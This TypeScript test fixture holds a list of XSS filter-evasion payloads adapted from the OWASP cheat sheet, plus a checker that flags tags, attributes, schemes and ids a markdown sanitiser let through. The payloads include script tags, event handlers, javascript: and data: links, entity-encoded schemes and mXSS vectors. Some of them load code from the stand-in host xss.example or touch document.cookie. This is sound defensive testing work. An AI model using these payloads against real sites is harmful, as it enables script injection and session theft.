/**
 * XSS filter-evasion payloads, after the OWASP cheat sheet
 * (cheatsheetseries.owasp.org, "XSS Filter Evasion"), adapted to markdown
 * input, plus a checker that says why a rendered fragment is not inert. Used by
 * the sanitiser's unit test, the tickets/docs integration tests and the
 * browser test; every payload calls alert() so a browser would show a dialog
 * if one ran.
 */

export const XSS_PAYLOADS: ReadonlyArray<{ name: string; source: string }> = [
  { name: 'script tag', source: `<script>alert('XSS')</script>` },
  { name: 'script tag, upper case with src', source: `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>` },
  { name: 'script tag, mixed case', source: `<ScRiPt>alert(1)</sCrIpT>` },
  { name: 'script with a non-alpha-non-digit after the name', source: `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>` },
  { name: 'extraneous open brackets', source: `<<SCRIPT>alert("XSS");//\\<</SCRIPT>` },
  { name: 'no closing script tag, protocol-relative src', source: `<SCRIPT SRC=//xss.example/.j>` },
  { name: 'img with javascript: src', source: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img, case-insensitive scheme, no quotes', source: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  { name: 'img, grave accents', source: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'malformed img tag', source: `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>` },
  { name: 'fromCharCode', source: `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>` },
  { name: 'img onmouseover', source: `<IMG SRC=# onmouseover="alert('xxs')">` },
  { name: 'img onerror', source: `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>` },
  {
    name: 'onerror, decimal entities with padding',
    source: `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">`,
  },
  {
    name: 'link, decimal entity-encoded javascript:',
    source: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">dec</a>`,
  },
  {
    name: 'link, hex entities without semicolons',
    source: `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex</a>`,
  },
  { name: 'link, embedded tab', source: `<a href="jav\tascript:alert('XSS');">tab</a>` },
  { name: 'link, encoded tab', source: `<a href="jav&#x09;ascript:alert('XSS');">enctab</a>` },
  { name: 'link, encoded newline', source: `<a href="jav&#x0A;ascript:alert('XSS');">newline</a>` },
  { name: 'link, spaces and meta chars before the scheme', source: `<a href=" &#14;  javascript:alert('XSS');">meta</a>` },
  { name: 'link, &NewLine; split scheme', source: `<a href="java&NewLine;script:alert(1)">nl</a>` },
  { name: 'link, hex entity colon', source: `<a href="&#x6a;avascript&#x3a;alert(1)">colon</a>` },
  { name: 'body onload with junk before =', source: `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>` },
  { name: 'svg onload', source: `<svg/onload=alert('XSS')>` },
  { name: 'script inside svg', source: `<svg><script>alert(1)</script></svg>` },
  { name: 'iframe javascript:', source: `<iframe src="javascript:alert('XSS');"></iframe>` },
  { name: 'iframe event handler', source: `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>` },
  { name: 'object scriptlet', source: `<object type="text/x-scriptlet" data="https://xss.example/scriptlet.html"></object>` },
  {
    name: 'embed data: svg',
    source: `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  },
  { name: 'form action javascript:', source: `<form action="javascript:alert(1)"><button>go</button></form>` },
  { name: 'button formaction', source: `<form><button formaction="javascript:alert(1)">X</button></form>` },
  { name: 'meta refresh javascript:', source: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">` },
  {
    name: 'meta refresh data: url',
    source: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  },
  { name: 'style url(javascript:)', source: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">bg</DIV>` },
  { name: 'style expression()', source: `<DIV STYLE="width: expression(alert('XSS'));">expr</DIV>` },
  { name: 'style element @import', source: `<STYLE>@import'https://xss.example/xss.css';</STYLE>` },
  { name: 'link stylesheet javascript:', source: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">` },
  { name: 'base href', source: `<BASE HREF="javascript:alert('XSS');//">` },
  { name: 'table background', source: `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><TD BACKGROUND="javascript:alert('XSS')">td</TD></tr></TABLE>` },
  { name: 'vbscript: link', source: `<a href="vbscript:msgbox('XSS')">vb</a>` },
  { name: 'data: link', source: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>` },
  { name: 'markdown link javascript:', source: `[click me](javascript:alert('XSS'))` },
  { name: 'markdown image javascript:', source: `![img](javascript:alert('XSS'))` },
  { name: 'markdown image onerror via title', source: `![x](https://xss.example/x.png "\\" onerror=\\"alert(1))` },
  { name: 'markdown link, entity-encoded scheme', source: `[x](&#106;avascript:alert(1))` },
  { name: 'markdown link, &colon;', source: `[x](javascript&colon;alert(1))` },
  { name: 'markdown reference link javascript:', source: `[ref][r]\n\n[r]: javascript:alert(1)` },
  { name: 'markdown autolink javascript:', source: `<javascript:alert(1)>` },
  { name: 'markdown data: link', source: `[d](data:text/html,<script>alert(1)</script>)` },
  { name: 'HTML comment hiding a script', source: `<!--<script>alert(1)</script>--> and <!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->` },
  { name: 'comment-closing trick', source: `<!-- --!><script>alert(1)</script> -->` },
  { name: 'attribute breaking quotes', source: `<a title='"><script>alert(1)</script>' href="https://ok.example">q</a>` },
  { name: 'quote breaking in text', source: `"><script>alert(1)</script><"` },
  { name: 'event handler on an allowed tag', source: `<p onmouseover=alert(1)//>hover</p>` },
  { name: 'slash instead of space', source: `<div/onmouseover='alert(1)'>slash</div>` },
  { name: 'unicode-escaped scheme and handler', source: `<a href="\\u006Aavascript:alert(1)">u</a><img src=x onerror=\\u0061lert(1)>` },
  { name: 'htmx attributes', source: `<a hx-get="/auth/logout" hx-trigger="load">htmx</a><div data-hx-post="/x" hx-on:click="alert(1)">hx</div>` },
  { name: 'mXSS through math/style', source: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>` },
  { name: 'mXSS through noscript', source: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">` },
  { name: 'details ontoggle', source: `<details open ontoggle=alert(1)>t</details>` },
  { name: 'video source onerror', source: `<video><source onerror="alert(1)"></video>` },
  { name: 'input autofocus onfocus', source: `<input autofocus onfocus=alert(1)>` },
  { name: 'unknown element with handler', source: `<x onclick=alert(1)>custom</x>` },
  { name: 'heading with a hostile id', source: `<h2 id="main" onclick="alert(1)">h</h2>` },
  { name: 'code with a hostile class', source: `<code class="htmx-request language-js" style="x">c</code>` },
]

const ALLOWED_TAGS = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'em', 'strong', 'del',
  'ul', 'ol', 'li', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
])
const ALLOWED_ATTRIBUTES: Record<string, Set<string>> = {
  a: new Set(['href', 'title', 'rel']),
  code: new Set(['class']),
  th: new Set(['align']),
  td: new Set(['align']),
}
const HEADING_ID = /^doc-[a-z0-9-]+$/

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&newline;/gi, '\n')
    .replace(/&tab;/gi, '\t')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')

/** The scheme a browser would see: control characters and whitespace are ignored in it. */
const schemeOf = (href: string) => /^([a-z][a-z0-9+.-]*):/i.exec(decode(href).replace(/[\u0000-\u0020]/g, ''))?.[1]?.toLowerCase()

/**
 * Every reason `html` could run script or load something: a tag outside the
 * sanitiser's list, an attribute outside it, a link with another scheme or a
 * protocol-relative one, an id outside the doc- namespace, a comment.
 * @example
 * expect(inertProblems(renderMarkdown(payload))).toEqual([])
 */
export function inertProblems(html: string): string[] {
  const problems: string[] = []
  if (html.includes('<!--')) problems.push('an HTML comment survived')
  for (const tag of html.matchAll(/<\s*(\/?)\s*([^\s>/]+)([^>]*)>/g)) {
    const name = tag[2]!.toLowerCase()
    if (!ALLOWED_TAGS.has(name)) {
      problems.push(`tag <${name}>`)
      continue
    }
    if (tag[1]) continue
    for (const attribute of tag[3]!.matchAll(/([^\s=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
      const key = attribute[1]!.toLowerCase()
      const value = attribute[2] ?? attribute[3] ?? attribute[4] ?? ''
      const headingId = /^h[1-6]$/.test(name) && key === 'id'
      if (headingId) {
        if (!HEADING_ID.test(value)) problems.push(`<${name} id="${value}"> outside the doc- namespace`)
        continue
      }
      if (!ALLOWED_ATTRIBUTES[name]?.has(key)) problems.push(`attribute ${key} on <${name}>`)
      if (key === 'class' && !/^language-[\w-]+$/.test(value)) problems.push(`class="${value}" on <${name}>`)
      if (key === 'href') {
        const scheme = schemeOf(value)
        if (scheme && !['http', 'https', 'mailto'].includes(scheme)) problems.push(`href with scheme ${scheme}:`)
        if (decode(value).trim().startsWith('//')) problems.push(`protocol-relative href ${value}`)
      }
    }
  }
  return problems
}
